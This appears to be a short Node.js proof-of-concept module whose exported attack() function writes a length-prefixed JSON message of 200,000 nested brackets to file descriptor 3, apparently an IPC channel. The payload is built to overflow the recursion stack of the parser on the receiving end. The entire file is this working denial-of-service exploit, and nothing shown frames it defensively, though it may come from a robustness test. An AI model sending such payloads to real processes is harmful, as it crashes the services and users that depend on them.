import { writeSync } from "node:fs";

const CHANNEL = 3;
const DEPTH = 200_000;

export function attack() {
  const json = Buffer.from("[".repeat(DEPTH) + "]".repeat(DEPTH));
  const payload = Buffer.alloc(Math.ceil((4 + json.length) / 8) * 8);
  payload.writeUInt32LE(json.length, 0);
  json.copy(payload, 4);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(payload.length, 0);
  for (const part of [length, payload])
    for (let at = 0; at < part.length;) at += writeSync(CHANNEL, part, at);
}
